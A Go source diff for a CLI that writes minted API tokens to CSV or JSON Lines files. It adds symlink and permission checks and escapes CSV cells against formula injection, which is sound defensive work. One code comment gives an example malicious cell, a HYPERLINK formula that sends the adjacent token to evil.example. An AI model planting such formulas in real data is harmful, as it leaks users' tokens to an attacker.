@@ -14,6 +14,7 @@ import (
 	"time"
 
 	"github.com/axero-cli/axero/client"
+	"github.com/axero-cli/axero/internal/textsafe"
 )
 
 // Record is one minted token in the output file.
@@ -53,9 +54,10 @@ type OutputWriter struct {
 	cw  *csv.Writer
 }
 
-// CreateOutput creates path, mode 0600, failing if it exists.
+// CreateOutput creates path, mode 0600, failing if anything exists there
+// (a symbolic link included).
 func CreateOutput(path string) (*OutputWriter, error) {
-	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
+	f, err := createPrivate(path, os.O_WRONLY)
 	if err != nil {
 		return nil, outputOpenError(path, err)
 	}
@@ -79,14 +81,23 @@ func CreateOutput(path string) (*OutputWriter, error) {
 
 // AppendOutput opens an existing output file for --resume, after
 // ReadOutput has cut off any torn last record at size. A missing file is
-// created.
+// created. It refuses a symbolic link, anything but a regular file, and a
+// file that others can read: appending tokens to it would hand them over.
 func AppendOutput(path string, size int64) (*OutputWriter, error) {
-	if _, err := os.Stat(path); errors.Is(err, os.ErrNotExist) {
+	what := "--out " + path
+	fi, err := checkExisting(path, what)
+	if err != nil {
+		return nil, err
+	}
+	if fi == nil {
 		return CreateOutput(path)
 	}
-	f, err := os.OpenFile(path, os.O_WRONLY, 0o600)
+	if err := checkPrivate(fi, what); err != nil {
+		return nil, err
+	}
+	f, err := openExisting(path, what, os.O_WRONLY, fi)
 	if err != nil {
-		return nil, outputOpenError(path, err)
+		return nil, err
 	}
 	if err := f.Truncate(size); err != nil {
 		f.Close()
@@ -136,14 +147,18 @@ func newOutputWriter(f *os.File, isCSV bool) *OutputWriter {
 
 // Write appends one record without syncing; Sync makes the records written
 // so far durable. Each record reaches the file in a single write call, so a
-// crash leaves at most one torn line, at the end.
+// crash leaves at most one torn line, at the end. In CSV every cell goes
+// through textsafe.CSVCell: a user or token name such as
+// =HYPERLINK("http://evil.example/?"&F2) must not become a formula that
+// sends the token in the next cell away. JSON Lines keep exact values.
 func (w *OutputWriter) Write(r Record) error {
 	if w.csv {
 		exp := "never"
 		if r.Expiry != nil {
 			exp = r.Expiry.UTC().Format(time.RFC3339)
 		}
-		if err := w.cw.Write([]string{r.User, strconv.FormatInt(r.UserID, 10), strconv.FormatInt(r.TokenID, 10), r.Name, exp, r.Token}); err != nil {
+		row := []string{r.User, strconv.FormatInt(r.UserID, 10), strconv.FormatInt(r.TokenID, 10), r.Name, exp, r.Token}
+		if err := w.cw.Write(textsafe.CSVRow(row)); err != nil {
 			return err
 		}
 	} else {
@@ -196,15 +211,17 @@ func (d *doneSet) add(user string, userID, tokenID int64) {
 // ReadOutput reads an existing output file for --resume. A last line
 // without its newline is a record torn by a crash: it is left out and its
 // token is revoked by reconciliation, since its intent has no done record.
-// A missing file is empty.
+// A missing file is empty. Like AppendOutput, it refuses a symbolic link,
+// anything but a regular file and a file that others can read, so that a
+// resume stops before it changes anything.
 func ReadOutput(path string) (*doneSet, error) {
 	d := newDoneSet()
-	f, err := os.Open(path)
-	if errors.Is(err, os.ErrNotExist) {
-		return d, nil
-	}
+	f, err := openOurs(path, "--out "+path, os.O_RDONLY, true)
 	if err != nil {
-		return nil, fmt.Errorf("reading --out %s: %w", path, err)
+		return nil, err
+	}
+	if f == nil {
+		return d, nil
 	}
 	defer f.Close()
 	isCSV := isCSVPath(path)
@@ -236,7 +253,7 @@ func ReadOutput(path string) (*doneSet, error) {
 			if err1 != nil || err2 != nil {
 				return nil, fmt.Errorf("--out %s is damaged at line %d; it is not a file this command wrote", path, lineNo)
 			}
-			d.add(rec[0], uid, tid)
+			d.add(textsafe.CSVUncell(rec[0]), uid, tid)
 			continue
 		}
 		var r Record
